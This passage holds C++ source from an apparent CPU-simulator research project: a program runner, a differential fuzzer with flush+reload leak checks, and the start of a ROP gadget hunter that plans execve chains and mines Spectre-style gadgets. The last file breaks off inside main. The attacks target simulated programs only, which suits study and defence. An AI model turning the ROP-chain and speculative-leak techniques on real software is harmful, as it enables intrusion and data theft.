        std::fprintf(f,
                     "{\"name\":\"crsim:%s\",\"wall_ms\":%.3f,"
                     "\"items_per_s\":%.3f,\"config\":%s}\n",
                     path.c_str(), wall_ms,
                     static_cast<double>(machine.cpu().retired()) /
                         (wall_ms / 1e3),
                     core::bench_config_json(mitigations.any()
                                                 ? mitigations.serialize()
                                                 : "")
                         .c_str());
        std::fclose(f);
      }
    }
    return reason == sim::StopReason::kHalted
               ? static_cast<int>(kernel.exit_code())
               : 1;
  } catch (const Error& e) {
    std::fprintf(stderr, "crsim: %s\n", e.what());
    return 1;
  }
}
