// crsim — assemble and run a program on the simulated machine.
//
//   crsim prog.s [arg1 arg2 ...]     assemble + run, print output and PMU
//   crsim --disasm prog.s            assemble and print the listing
//
// The runtime library (print/exit_/memcpy/... and the gadget-donating
// helpers) is linked in automatically, exactly as for the built-in
// workloads. Use this to write your own victims and attacks.
#include <cstdio>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include "casm/assembler.hpp"
#include "casm/runtime.hpp"
#include "sim/kernel.hpp"
#include "support/error.hpp"
#include "support/strings.hpp"

namespace {

std::string read_file(const std::string& path) {
  std::ifstream f(path);
  if (!f.good()) {
    throw crs::Error("cannot read '" + path + "'");
  }
  std::ostringstream ss;
  ss << f.rdbuf();
  return ss.str();
}

}  // namespace

int main(int argc, char** argv) {
  using namespace crs;
  if (argc < 2) {
    std::fprintf(stderr,
                 "usage: crsim [--disasm] <prog.s> [args...]\n"
                 "       assembles with the runtime library and runs the "
                 "program on the simulator\n");
    return 2;
  }

  try {
    bool disasm = false;
    int argi = 1;
    if (std::string(argv[argi]) == "--disasm") {
      disasm = true;
      ++argi;
    }
    if (argi >= argc) {
      std::fprintf(stderr, "missing input file\n");
      return 2;
    }
    const std::string path = argv[argi++];
    const sim::Program program =
        casm::assemble(read_file(path) + casm::runtime_library(),
                       {.name = path, .link_base = 0x10000});

    if (disasm) {
      std::fputs(casm::disassemble_text(program).c_str(), stdout);
      return 0;
    }

    std::vector<std::string> args{path};
    for (; argi < argc; ++argi) args.emplace_back(argv[argi]);

    sim::Machine machine;
    sim::Kernel kernel(machine);
    kernel.register_binary(path, program);
    kernel.start_with_strings(path, args);
    const auto reason = kernel.run(2'000'000'000);

    if (!kernel.output_string().empty()) {
      std::printf("%s", kernel.output_string().c_str());
      if (kernel.output_string().back() != '\n') std::printf("\n");
    }
    switch (reason) {
      case sim::StopReason::kHalted:
        std::fprintf(stderr, "[crsim] exit %lld\n",
                     static_cast<long long>(kernel.exit_code()));
        break;
      case sim::StopReason::kFault:
        std::fprintf(stderr, "[crsim] FAULT kind=%d at pc=%s addr=%s\n",
                     static_cast<int>(machine.cpu().fault().kind),
                     hex(machine.cpu().fault().pc).c_str(),
                     hex(machine.cpu().fault().addr).c_str());
        break;
      default:
        std::fprintf(stderr, "[crsim] instruction limit reached\n");
        break;
    }
    std::fprintf(stderr,
                 "[crsim] %llu instructions, %llu cycles (IPC %.3f)\n",
                 static_cast<unsigned long long>(machine.cpu().retired()),
                 static_cast<unsigned long long>(machine.cpu().cycle()),
                 static_cast<double>(machine.cpu().retired()) /
                     static_cast<double>(machine.cpu().cycle()));
    for (std::size_t i = 0; i < sim::kEventCount; ++i) {
      const auto e = static_cast<sim::Event>(i);
      std::fprintf(stderr, "[pmu] %-20s %llu\n",
                   std::string(sim::event_name(e)).c_str(),
                   static_cast<unsigned long long>(machine.pmu().count(e)));
    }
    return reason == sim::StopReason::kHalted
               ? static_cast<int>(kernel.exit_code())
               : 1;
  } catch (const Error& e) {
    std::fprintf(stderr, "crsim: %s\n", e.what());
    return 1;
  }
}
