// crs_fuzz — differential fuzzer + golden-trace manager for the simulator.
//
//   crs_fuzz [--seed S] [--iters N | --seconds T] [--corpus DIR]
//            [--max-instructions M] [--attack-every K] [--harden-every K]
//            [--threads N]
//            [--exec interp|blocks] [--no-smc] [--no-pivot] [--no-perturb]
//            [--max-repros R]
//   crs_fuzz --update-golden [DIR]     regenerate tests/golden CSVs
//   crs_fuzz --check-golden  [DIR]     diff live scenarios vs checked-in CSVs
//   crs_fuzz --check-trace <file.json> validate a Chrome trace_event JSON
//                                      (schema + B/E span nesting)
//   crs_fuzz --fuzz-serve              differential wire-vs-direct oracle:
//                                      every generated program (and every
//                                      5th iteration a scenario config) runs
//                                      both through core::run_job directly
//                                      and through an in-process campaign
//                                      service over the wire protocol; any
//                                      byte difference is a divergence
//
// Each iteration i derives its own Rng from (seed, i), generates a random
// program, and runs the differential oracle (decode cache on/off, cache
// geometries, speculation windows; every Kth iteration a flush+reload
// attack-leak check instead). On divergence the failing program is
// greedily minimized and written to the corpus directory as a
// self-contained .casm repro that test_fuzz_regressions replays. A final
// serial-vs-thread-pool batch checks campaign-parallelism determinism.
//
// Determinism: the same --seed/--iters produce byte-identical repro files;
// --seconds only changes how many iterations run, not what any given
// iteration does.
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <filesystem>
#include <string>
#include <vector>

#include "core/report.hpp"
#include "fuzz/differ.hpp"
#include "fuzz/generator.hpp"
#include "fuzz/golden.hpp"
#include "fuzz/minimize.hpp"
#include "obs/trace.hpp"
#include "serve/client.hpp"
#include "serve/server.hpp"
#include "sim/cpu.hpp"
#include "support/error.hpp"
#include "support/parallel.hpp"

#ifndef CRS_FUZZ_DEFAULT_CORPUS
#define CRS_FUZZ_DEFAULT_CORPUS "tests/fuzz_corpus"
#endif
#ifndef CRS_GOLDEN_DIR
#define CRS_GOLDEN_DIR "tests/golden"
#endif

namespace {

using namespace crs;

struct Options {
  std::uint64_t seed = 1;
  std::uint64_t iters = 200;
  double seconds = 0;  // > 0 overrides iters
  std::string corpus = CRS_FUZZ_DEFAULT_CORPUS;
  std::string golden_dir = CRS_GOLDEN_DIR;
  std::uint64_t max_instructions = 2'000'000;
  std::uint64_t attack_every = 13;
  std::uint64_t harden_every = 7;
  unsigned threads = 0;
  int parallel_batch = 8;
  int max_repros = 10;
  bool allow_smc = true;
  bool allow_pivot = true;
  bool allow_perturb = true;
  bool update_golden = false;
  bool check_golden = false;
  bool fuzz_serve = false;
  std::string check_trace;
};

int usage() {
  std::fprintf(
      stderr,
      "usage: crs_fuzz [--seed S] [--iters N | --seconds T] [--corpus DIR]\n"
      "                [--max-instructions M] [--attack-every K]\n"
      "                [--harden-every K] [--threads N]\n"
      "                [--exec interp|blocks] [--parallel-batch B]\n"
      "                [--max-repros R] [--no-smc] [--no-pivot] [--no-perturb]\n"
      "       crs_fuzz --update-golden [DIR]\n"
      "       crs_fuzz --check-golden [DIR]\n"
      "       crs_fuzz --check-trace <file.json>\n"
      "       crs_fuzz --fuzz-serve [--seed S] [--iters N | --seconds T]\n");
  return 2;
}

bool parse_args(int argc, char** argv, Options& opt) {
  for (int i = 1; i < argc; ++i) {
    const std::string a = argv[i];
    const auto next = [&](std::uint64_t& out) {
      if (i + 1 >= argc) return false;
      out = static_cast<std::uint64_t>(std::strtoull(argv[++i], nullptr, 0));
      return true;
    };
    if (a == "--seed") {
      if (!next(opt.seed)) return false;
    } else if (a == "--iters") {
      if (!next(opt.iters)) return false;
    } else if (a == "--seconds") {
      if (i + 1 >= argc) return false;
      opt.seconds = std::atof(argv[++i]);
    } else if (a == "--corpus") {
      if (i + 1 >= argc) return false;
      opt.corpus = argv[++i];
    } else if (a == "--max-instructions") {
      if (!next(opt.max_instructions)) return false;
    } else if (a == "--attack-every") {
      if (!next(opt.attack_every)) return false;
    } else if (a == "--harden-every") {
      if (!next(opt.harden_every)) return false;
    } else if (a == "--threads") {
      std::uint64_t t = 0;
      if (!next(t)) return false;
      opt.threads = static_cast<unsigned>(t);
    } else if (a == "--parallel-batch") {
      std::uint64_t b = 0;
      if (!next(b)) return false;
      opt.parallel_batch = static_cast<int>(b);
    } else if (a == "--max-repros") {
      std::uint64_t r = 0;
      if (!next(r)) return false;
      opt.max_repros = static_cast<int>(r);
    } else if (a == "--exec" || a.rfind("--exec=", 0) == 0) {
      // Sets the default engine for machines the differ does not pin
      // explicitly (golden traces, scenario replay, the attack-leak base).
      std::string v;
      if (a == "--exec") {
        if (i + 1 >= argc) return false;
        v = argv[++i];
      } else {
        v = a.substr(7);
      }
      const auto engine = sim::parse_exec_engine(v);
      if (!engine) {
        std::fprintf(stderr, "crs_fuzz: --exec wants 'interp' or 'blocks'\n");
        return false;
      }
      sim::set_default_exec_engine(*engine);
    } else if (a == "--no-smc") {
      opt.allow_smc = false;
    } else if (a == "--no-pivot") {
      opt.allow_pivot = false;
    } else if (a == "--no-perturb") {
      opt.allow_perturb = false;
    } else if (a == "--fuzz-serve") {
      opt.fuzz_serve = true;
    } else if (a == "--check-trace") {
      if (i + 1 >= argc) return false;
      opt.check_trace = argv[++i];
    } else if (a == "--update-golden" || a == "--check-golden") {
      (a == "--update-golden" ? opt.update_golden : opt.check_golden) = true;
      if (i + 1 < argc && argv[i + 1][0] != '-') opt.golden_dir = argv[++i];
    } else {
      std::fprintf(stderr, "crs_fuzz: unknown argument '%s'\n", a.c_str());
      return false;
    }
  }
  return true;
}

fuzz::GeneratorOptions generator_options(const Options& opt,
                                         std::uint64_t iter) {
  fuzz::GeneratorOptions g;
  // Alternate equivalence classes: even iterations stay timing-blind so the
  // arch-only configs (cache geometry, spec window) participate; odd ones
  // allow rdcycle and exercise exact configs with timing-dependent code.
  g.allow_rdcycle = (iter % 2) == 1;
  g.allow_smc = opt.allow_smc && (iter % 3) == 0;
  g.allow_pivot = opt.allow_pivot;
  g.allow_perturb = opt.allow_perturb;
  return g;
}

/// Repro file: header comments carry everything the replayer needs.
std::string repro_text(const Options& opt, std::uint64_t iter,
                       const fuzz::Divergence& div,
                       const fuzz::FuzzProgram& minimized) {
  std::string s;
  s += "; crs-fuzz repro (auto-minimized)\n";
  s += "; seed: " + std::to_string(opt.seed) + "\n";
  s += "; iter: " + std::to_string(iter) + "\n";
  s += "; kind: " + div.kind + "\n";
  s += "; configs: " + div.config_a +
       (div.config_b.empty() ? "" : " vs " + div.config_b) + "\n";
  s += "; detail: " + div.detail + "\n";
  s += "; smc: " + std::to_string(minimized.uses_smc ? 1 : 0) + "\n";
  s += "; rdcycle: " + std::to_string(minimized.uses_rdcycle ? 1 : 0) + "\n";
  s += minimized.source();
  return s;
}

int run_golden(const Options& opt) {
  namespace fs = std::filesystem;
  int failures = 0;
  for (const auto& name : fuzz::golden_scenario_names()) {
    const auto path = opt.golden_dir + "/" + name + ".csv";
    const auto live = fuzz::golden_csv(name);
    if (opt.update_golden) {
      fs::create_directories(opt.golden_dir);
      core::write_text_file(path, live);
      std::printf("crs_fuzz: wrote %s (%zu bytes)\n", path.c_str(),
                  live.size());
      continue;
    }
    std::string golden;
    try {
      golden = fuzz::read_text_file(path);
    } catch (const Error& e) {
      std::fprintf(stderr, "crs_fuzz: %s (run --update-golden first?)\n",
                   e.what());
      ++failures;
      continue;
    }
    const auto diff = fuzz::diff_csv(name, golden, live);
    if (diff.empty()) {
      std::printf("crs_fuzz: golden '%s' OK\n", name.c_str());
    } else {
      std::fputs(diff.c_str(), stderr);
      ++failures;
    }
  }
  return failures == 0 ? 0 : 1;
}

int run_check_trace(const std::string& path) {
  const auto json = fuzz::read_text_file(path);
  const auto diag = obs::validate_chrome_trace(json);
  if (diag.empty()) {
    std::printf("crs_fuzz: trace %s OK (%zu bytes)\n", path.c_str(),
                json.size());
    return 0;
  }
  std::fprintf(stderr, "crs_fuzz: trace %s INVALID: %s\n", path.c_str(),
               diag.c_str());
  return 1;
}

int run_fuzz(const Options& opt) {
  namespace fs = std::filesystem;
  if (opt.threads != 0) set_thread_override(opt.threads);

  fuzz::RunLimits limits;
  limits.max_instructions = opt.max_instructions;

  const auto start = std::chrono::steady_clock::now();
  const auto elapsed = [&] {
    return std::chrono::duration<double>(std::chrono::steady_clock::now() -
                                         start)
        .count();
  };

  int divergences = 0;
  int repros_written = 0;
  std::uint64_t iter = 0;
  std::uint64_t programs_checked = 0;
  std::uint64_t attacks_checked = 0;
  std::uint64_t hardened_checked = 0;

  for (;; ++iter) {
    if (opt.seconds > 0) {
      if (elapsed() >= opt.seconds) break;
    } else if (iter >= opt.iters) {
      break;
    }

    Rng rng(derive_seed(opt.seed, iter));
    if (opt.attack_every > 0 && iter % opt.attack_every == opt.attack_every - 1) {
      ++attacks_checked;
      if (const auto div = fuzz::check_attack_leak(rng, limits)) {
        ++divergences;
        std::fprintf(stderr,
                     "crs_fuzz: DIVERGENCE (iter %llu, %s): %s vs %s: %s\n",
                     static_cast<unsigned long long>(iter), div->kind.c_str(),
                     div->config_a.c_str(), div->config_b.c_str(),
                     div->detail.c_str());
        // Attack binaries are parameter-derived, not line-mutable: record
        // the failing iteration without a .casm repro.
      }
      continue;
    }

    const auto gopt = generator_options(opt, iter);
    const auto program = fuzz::generate_program(rng, gopt);
    ++programs_checked;
    auto div = fuzz::check_program(program, limits);
    if (!div && opt.harden_every > 0 &&
        iter % opt.harden_every == opt.harden_every - 1) {
      // The same program again under a seeded hardened (ASLR + guarded
      // heap) kernel: the relocated layout must be engine-invariant.
      ++hardened_checked;
      div = fuzz::check_hardened(program.source(), program.uses_smc,
                                 program.uses_rdcycle, rng.next_u64(), limits);
    }
    if (!div) {
      if (iter % 50 == 49) {
        std::printf("crs_fuzz: %llu iterations, %d divergence(s), %.1fs\n",
                    static_cast<unsigned long long>(iter + 1), divergences,
                    elapsed());
        std::fflush(stdout);
      }
      continue;
    }

    ++divergences;
    std::fprintf(stderr, "crs_fuzz: DIVERGENCE (iter %llu, %s): %s vs %s: %s\n",
                 static_cast<unsigned long long>(iter), div->kind.c_str(),
                 div->config_a.c_str(), div->config_b.c_str(),
                 div->detail.c_str());
    if (repros_written >= opt.max_repros) continue;

    // Minimize: keep any candidate that still diverges (in any way).
    fuzz::MinimizeStats mstats;
    const auto minimized = fuzz::minimize(
        program,
        [&](const fuzz::FuzzProgram& cand) {
          try {
            return fuzz::check_program(cand, limits).has_value();
          } catch (const Error&) {
            return false;  // candidate no longer assembles
          }
        },
        /*max_oracle_calls=*/600, &mstats);

    fs::create_directories(opt.corpus);
    const auto path = opt.corpus + "/repro_s" + std::to_string(opt.seed) +
                      "_i" + std::to_string(iter) + ".casm";
    const auto final_div = fuzz::check_program(minimized, limits);
    core::write_text_file(
        path, repro_text(opt, iter, final_div.value_or(*div), minimized));
    ++repros_written;
    std::fprintf(stderr,
                 "crs_fuzz: minimized %zu -> %zu lines (%d oracle calls), "
                 "wrote %s\n",
                 program.lines.size(), minimized.lines.size(),
                 mstats.oracle_calls, path.c_str());
  }

  // Campaign-parallelism oracle: serial vs pool over a fresh batch.
  if (opt.parallel_batch > 0) {
    fuzz::GeneratorOptions gopt;
    gopt.allow_smc = opt.allow_smc;
    gopt.allow_pivot = opt.allow_pivot;
    gopt.allow_perturb = opt.allow_perturb;
    if (const auto div = fuzz::check_parallel_batch(
            derive_seed(opt.seed, 0xBA7C4), opt.parallel_batch,
            opt.threads, gopt, limits)) {
      ++divergences;
      std::fprintf(stderr, "crs_fuzz: DIVERGENCE (parallel): %s vs %s: %s\n",
                   div->config_a.c_str(), div->config_b.c_str(),
                   div->detail.c_str());
    }
  }

  std::printf(
      "crs_fuzz: done — %llu programs (%llu also hardened) + %llu attack "
      "configs checked in %.1fs, %d divergence(s), %d repro(s) written\n",
      static_cast<unsigned long long>(programs_checked),
      static_cast<unsigned long long>(hardened_checked),
      static_cast<unsigned long long>(attacks_checked), elapsed(), divergences,
      repros_written);
  return divergences == 0 ? 0 : 1;
}

/// Differential wire-vs-direct oracle (the serve twin of check_program).
/// The served path must be a pure transport: for any job the RESULT payload
/// off the wire equals core::run_job's payload byte for byte. Reuses the
/// fuzz generator so the program population matches the main oracle's.
int run_fuzz_serve(const Options& opt) {
  if (opt.threads != 0) set_thread_override(opt.threads);

  serve::ServeConfig scfg;
  scfg.shards = 2;
  scfg.queue_capacity = 16;
  serve::Server server(scfg);
  server.start();
  serve::Client client = serve::Client::connect_tcp(server.port());

  const auto start = std::chrono::steady_clock::now();
  const auto elapsed = [&] {
    return std::chrono::duration<double>(std::chrono::steady_clock::now() -
                                         start)
        .count();
  };

  int divergences = 0;
  std::uint64_t iter = 0;
  for (;; ++iter) {
    if (opt.seconds > 0) {
      if (elapsed() >= opt.seconds) break;
    } else if (iter >= opt.iters) {
      break;
    }

    Rng rng(derive_seed(opt.seed, iter));
    core::JobSpec spec;
    spec.id = iter + 1;
    if (iter % 5 == 4) {
      // Scenario jobs keep the session-cache path honest, not just the
      // machine-pool path the program jobs exercise.
      spec.kind = core::JobKind::kScenario;
      spec.scenario.config.rop_injected = false;
      spec.scenario.config.host_scale = 500 + rng.next_below(8);
      spec.scenario.config.secret = (iter % 10 == 9) ? "FZ" : "FUZZSRV";
      spec.scenario.config.seed = 1 + rng.next_below(1000);
      spec.scenario.attempts = 1 + static_cast<int>(rng.next_below(3));
    } else {
      const auto program = fuzz::generate_program(
          rng, generator_options(opt, iter));
      spec.kind = core::JobKind::kProgram;
      spec.program.source = program.source();
      spec.program.writable_text = program.uses_smc;
      spec.program.max_instructions = opt.max_instructions;
    }

    const std::string direct = core::run_job(spec).payload;
    // Round-trip the spec text itself: the server parses what the client
    // serialized, so any canonicalization drift shows up here too.
    const serve::Client::JobResult served = client.run(spec);
    if (!served.accepted || served.status != "ok" ||
        served.payload != direct) {
      ++divergences;
      std::fprintf(stderr,
                   "crs_fuzz: SERVE DIVERGENCE (iter %llu, %s): %s\n",
                   static_cast<unsigned long long>(iter),
                   core::job_kind_name(spec.kind).c_str(),
                   !served.accepted
                       ? ("rejected: " + served.reject_reason).c_str()
                       : (served.status != "ok"
                              ? ("status=" + served.status).c_str()
                              : "payload bytes differ"));
    }
    if (iter % 50 == 49) {
      std::printf("crs_fuzz: serve %llu iterations, %d divergence(s), %.1fs\n",
                  static_cast<unsigned long long>(iter + 1), divergences,
                  elapsed());
      std::fflush(stdout);
    }
  }

  server.shutdown(true);
  const serve::ServeStats stats = server.stats();
  std::printf(
      "crs_fuzz: serve done — %llu jobs wire-vs-direct in %.1fs, "
      "%d divergence(s) (server: %llu accepted, %llu completed)\n",
      static_cast<unsigned long long>(iter), elapsed(), divergences,
      static_cast<unsigned long long>(stats.accepted),
      static_cast<unsigned long long>(stats.completed));
  return divergences == 0 ? 0 : 1;
}

}  // namespace

int main(int argc, char** argv) {
  Options opt;
  if (!parse_args(argc, argv, opt)) return usage();
  try {
    if (opt.update_golden || opt.check_golden) return run_golden(opt);
    if (!opt.check_trace.empty()) return run_check_trace(opt.check_trace);
    if (opt.fuzz_serve) return run_fuzz_serve(opt);
    return run_fuzz(opt);
  } catch (const Error& e) {
    std::fprintf(stderr, "crs_fuzz: %s\n", e.what());
    return 1;
  }
}
