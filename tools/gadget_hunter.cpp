// gadget_hunter — gadget discovery CLI: the offline half of the ROP attack,
// plus corpus-scale speculation-aware mining (src/mine).
//
// Single-binary mode (classic ROP catalogue):
//   gadget_hunter <prog.s>            print the full gadget catalogue
//   gadget_hunter --plan <prog.s>     additionally plan the execve chain
//                                     (frame recon + payload hexdump)
//   gadget_hunter --metrics <out.csv> also dump scan metrics (gadget count,
//                                     chain feasibility, payload size) as CSV
//
// Corpus mining mode (any of --gen/--corpus/--mine-*/--emit-scenarios):
//   gadget_hunter --gen N             mine N fuzz-generated programs
//                 [--seed S]          corpus seed (default 2026)
//                 [--gadget-bias P]   % chance per block of a Spectre-shaped
//                                     snippet (default 60)
//                 [--corpus DIR]      also mine every .casm file in DIR
//                 [--threads N]       pool width (results identical for any)
//                 [--max-window W]    speculation-window walk bound
//                 [--no-validate]     static classification only
//                 [--mine-csv F]      write the mined-gadget table as CSV
//                 [--mine-json F]     write the full report as JSON
//                 [--emit-scenarios DIR]  write a .casm replay + .job spec
//                                     per scenario-eligible gadget
//   gadget_hunter --update-golden [DIR]   regenerate tests/golden mined set
//   gadget_hunter --check-golden  [DIR]   re-mine the checked-in corpus and
//                                         diff the CSV byte-for-byte
//
// `prog.s` is assembled with the runtime library, like crsim does; the
// scanner then decodes its executable pages the way the paper's authors
// walked the victim in GDB. The golden corpus pins the classifier: the
// sources under <golden>/mine_corpus/ are checked in, so --check-golden
// exercises classify + validate + synthesize without depending on the fuzz
// generator's drift.
#include <algorithm>
#include <cstdint>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include "casm/assembler.hpp"
#include "casm/runtime.hpp"
#include "core/job.hpp"
#include "core/report.hpp"
#include "fuzz/generator.hpp"
#include "fuzz/golden.hpp"
#include "mine/mine.hpp"
#include "obs/metrics.hpp"
#include "rop/plan.hpp"
#include "support/error.hpp"
#include "support/flags.hpp"
#include "support/parallel.hpp"
#include "support/strings.hpp"

#ifndef CRS_GOLDEN_DIR
#define CRS_GOLDEN_DIR "tests/golden"
#endif

namespace {

using namespace crs;

// The golden corpus is generated once by --update-golden and then checked
// in; these only matter when regenerating it.
constexpr std::uint64_t kGoldenSeed = 2026;
constexpr std::size_t kGoldenGenerated = 6;

std::string read_file(const std::string& path) {
  std::ifstream f(path);
  if (!f.good()) throw crs::Error("cannot read '" + path + "'");
  std::ostringstream ss;
  ss << f.rdbuf();
  return ss.str();
}

void print_usage(std::FILE* out) {
  std::fprintf(
      out,
      "usage: gadget_hunter [--plan] [--metrics <out.csv>] <prog.s>\n"
      "       gadget_hunter [--gen N] [--seed S] [--gadget-bias P]\n"
      "                     [--corpus DIR] [--threads N] [--max-window W]\n"
      "                     [--no-validate] [--mine-csv F] [--mine-json F]\n"
      "                     [--emit-scenarios DIR]\n"
      "       gadget_hunter --update-golden [DIR]\n"
      "       gadget_hunter --check-golden [DIR]\n"
      "       gadget_hunter --help\n");
}

int usage() {
  print_usage(stderr);
  return 2;
}

/// `--help` is a success, not a usage error: print to stdout, exit 0.
int help() {
  print_usage(stdout);
  return 0;
}

/// Every .casm file in `dir` as a (bare filename, source) pair, sorted by
/// name so the mined report is independent of directory iteration order.
std::vector<std::pair<std::string, std::string>> load_corpus_dir(
    const std::string& dir) {
  namespace fs = std::filesystem;
  if (!fs::is_directory(dir)) {
    throw Error("corpus directory '" + dir + "' does not exist");
  }
  std::vector<std::string> names;
  for (const auto& entry : fs::directory_iterator(dir)) {
    if (!entry.is_regular_file()) continue;
    const auto path = entry.path();
    if (path.extension() != ".casm" && path.extension() != ".s") continue;
    names.push_back(path.filename().string());
  }
  std::sort(names.begin(), names.end());
  std::vector<std::pair<std::string, std::string>> out;
  out.reserve(names.size());
  for (const auto& name : names) {
    out.emplace_back(name, read_file(dir + "/" + name));
  }
  return out;
}

void print_report(const mine::CorpusReport& report) {
  for (const auto& b : report.binaries) {
    if (!b.error.empty()) {
      std::printf("  %-24s ERROR: %s\n", b.name.c_str(), b.error.c_str());
      continue;
    }
    std::printf("  %-24s %2zu candidate(s), %2zu rejected, %2zu gadget(s)\n",
                b.name.c_str(), b.candidates, b.rejected, b.gadgets.size());
    for (const auto& g : b.gadgets) {
      std::printf("    %-11s %-11s trigger %s window %s+%d  [%s%s]\n",
                  mine::gadget_class_name(g.cls).c_str(),
                  mine::trigger_kind_name(g.window.trigger).c_str(),
                  hex(g.window.trigger_addr).c_str(),
                  hex(g.window.window_addr).c_str(), g.window.window_len,
                  mine::validation_name(g.validation).c_str(),
                  g.scenario_eligible ? ", scenario" : "");
    }
  }
  std::printf(
      "mined %zu gadget(s) from %zu binarie(s): %zu candidate(s), "
      "%zu rejected, %zu leak(s), %zu perturb(s), %zu scenario-eligible\n",
      report.gadgets, report.binaries.size(), report.candidates,
      report.rejected, report.leaks, report.perturbs, report.scenarios);
}

/// Writes one .casm standalone replay and one .job scenario spec per
/// scenario-eligible gadget.
int emit_scenarios(const mine::CorpusReport& report, const std::string& dir) {
  namespace fs = std::filesystem;
  fs::create_directories(dir);
  int emitted = 0;
  for (const auto& b : report.binaries) {
    for (const auto& g : b.gadgets) {
      if (!g.scenario_eligible) continue;
      const core::ScenarioConfig sc =
          mine::mined_scenario(g, "CRSPECTRE-SECRET", /*injected=*/false);
      const std::string stem = dir + "/mined-" + mine::gadget_class_name(g.cls) +
                               "-" + std::to_string(emitted);
      core::write_text_file(stem + ".casm", sc.mined_attack_source);
      core::JobSpec spec;
      spec.kind = core::JobKind::kScenario;
      spec.id = static_cast<std::uint64_t>(emitted) + 1;
      spec.scenario.config = sc;
      spec.scenario.attempts = 1;
      core::write_text_file(stem + ".job", core::serialize_job(spec));
      ++emitted;
    }
  }
  std::printf("wrote %d scenario(s) to %s\n", emitted, dir.c_str());
  return emitted;
}

struct MineArgs {
  mine::CorpusOptions corpus;
  std::string corpus_dir;
  std::string mine_csv, mine_json, scenario_dir;
};

int run_mine(const MineArgs& margs) {
  mine::CorpusOptions opt = margs.corpus;
  if (!margs.corpus_dir.empty()) {
    auto extra = load_corpus_dir(margs.corpus_dir);
    opt.sources.insert(opt.sources.end(), extra.begin(), extra.end());
  }
  if (opt.generated == 0 && opt.sources.empty()) {
    std::fprintf(stderr, "gadget_hunter: nothing to mine (use --gen/--corpus)\n");
    return 2;
  }
  const mine::CorpusReport report = mine::mine_corpus(opt);
  print_report(report);
  if (!margs.mine_csv.empty()) {
    core::write_text_file(margs.mine_csv, mine::corpus_csv(report));
    std::printf("wrote %s\n", margs.mine_csv.c_str());
  }
  if (!margs.mine_json.empty()) {
    core::write_text_file(margs.mine_json, mine::corpus_json(report));
    std::printf("wrote %s\n", margs.mine_json.c_str());
  }
  if (!margs.scenario_dir.empty()) emit_scenarios(report, margs.scenario_dir);
  if constexpr (obs::kEnabled) {
    auto& reg = obs::MetricsRegistry::instance();
    reg.counter("mine.candidates").add(report.candidates);
    reg.counter("mine.gadgets").add(report.gadgets);
    reg.counter("mine.scenarios").add(report.scenarios);
  }
  return 0;
}

/// The golden mined set: checked-in corpus sources + the expected mined CSV.
/// Update regenerates both; check re-mines the checked-in sources and
/// requires a byte-identical CSV.
int run_golden(const std::string& dir, bool update) {
  namespace fs = std::filesystem;
  const std::string corpus_dir = dir + "/mine_corpus";
  const std::string csv_path = dir + "/mine.csv";

  mine::CorpusOptions opt;
  if (update) {
    fs::create_directories(corpus_dir);
    fuzz::GeneratorOptions gopt;
    gopt.gadget_bias = 60;
    for (std::size_t i = 0; i < kGoldenGenerated; ++i) {
      Rng rng(derive_seed(kGoldenSeed, i));
      const fuzz::FuzzProgram prog = fuzz::generate_program(rng, gopt);
      const std::string name = "mine_g" + std::to_string(i) + ".casm";
      core::write_text_file(corpus_dir + "/" + name, prog.source());
      opt.sources.emplace_back(name, prog.source());
    }
  } else {
    opt.sources = load_corpus_dir(corpus_dir);
    if (opt.sources.empty()) {
      std::fprintf(stderr,
                   "gadget_hunter: no golden corpus in %s (run "
                   "--update-golden first?)\n",
                   corpus_dir.c_str());
      return 1;
    }
  }

  const mine::CorpusReport report = mine::mine_corpus(opt);
  const std::string live = mine::corpus_csv(report);
  if (update) {
    core::write_text_file(csv_path, live);
    print_report(report);
    std::printf("gadget_hunter: wrote %s (%zu bytes)\n", csv_path.c_str(),
                live.size());
    return 0;
  }
  const std::string golden = fuzz::read_text_file(csv_path);
  const std::string diff = fuzz::diff_csv("mine", golden, live);
  if (diff.empty()) {
    std::printf("gadget_hunter: golden 'mine' OK (%zu gadget(s))\n",
                report.gadgets);
    return 0;
  }
  std::fputs(diff.c_str(), stderr);
  return 1;
}

int run_single(const std::string& path, bool plan_chain,
               const std::string& metrics_path) {
  const sim::Program program =
      casm::assemble(read_file(path) + casm::runtime_library(),
                     {.name = path, .link_base = 0x10000});

  const auto gadgets = rop::GadgetScanner().scan(program);
  std::printf("%zu gadgets in executable pages of %s:\n", gadgets.size(),
              path.c_str());
  std::fputs(rop::describe_catalog(gadgets).c_str(), stdout);

  rop::ChainBuilder builder(gadgets);
  std::printf("\nexecve chain constructible: %s\n",
              builder.can_build_execve() ? "yes" : "NO");

  if constexpr (obs::kEnabled) {
    auto& reg = obs::MetricsRegistry::instance();
    reg.counter("rop.gadgets_found").add(gadgets.size());
    reg.gauge("rop.chain_constructible")
        .set(builder.can_build_execve() ? 1.0 : 0.0);
  }

  if (plan_chain && builder.can_build_execve()) {
    rop::ReconSpec spec;
    spec.path = path;
    const auto plan = rop::plan_injection(program, spec, "/bin/cr_spectre");
    if constexpr (obs::kEnabled) {
      obs::MetricsRegistry::instance()
          .counter("rop.payload_bytes")
          .add(plan.payload.bytes.size());
    }
    std::printf("frame: buffer %s, return slot %s, filler %llu bytes\n",
                hex(plan.frame.buffer_address).c_str(),
                hex(plan.frame.return_slot).c_str(),
                static_cast<unsigned long long>(plan.frame.filler_length));
    std::printf("payload (%zu bytes):\n", plan.payload.bytes.size());
    for (std::size_t i = 0; i < plan.payload.bytes.size(); ++i) {
      if (i % 16 == 0) std::printf("  %04zx:", i);
      std::printf(" %02x", plan.payload.bytes[i]);
      if (i % 16 == 15) std::printf("\n");
    }
    if (plan.payload.bytes.size() % 16 != 0) std::printf("\n");
  }
  if (!metrics_path.empty()) {
    if (!obs::kEnabled) {
      std::fprintf(stderr,
                   "gadget_hunter: built with CRSPECTRE_OBS=OFF — metrics "
                   "output will be empty\n");
    }
    crs::core::write_text_file(metrics_path,
                               obs::MetricsRegistry::instance().csv());
    std::printf("wrote %zu metrics to %s\n",
                obs::MetricsRegistry::instance().size(), metrics_path.c_str());
  }
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 2) return usage();
  try {
    bool plan_chain = false;
    bool mining = false;
    bool no_validate = false;
    bool check_golden = false;
    bool update_golden = false;
    std::string golden_dir = CRS_GOLDEN_DIR;
    std::string metrics_path;
    MineArgs margs;

    FlagCursor args(argc, argv);
    std::uint64_t u = 0;
    int n = 0;
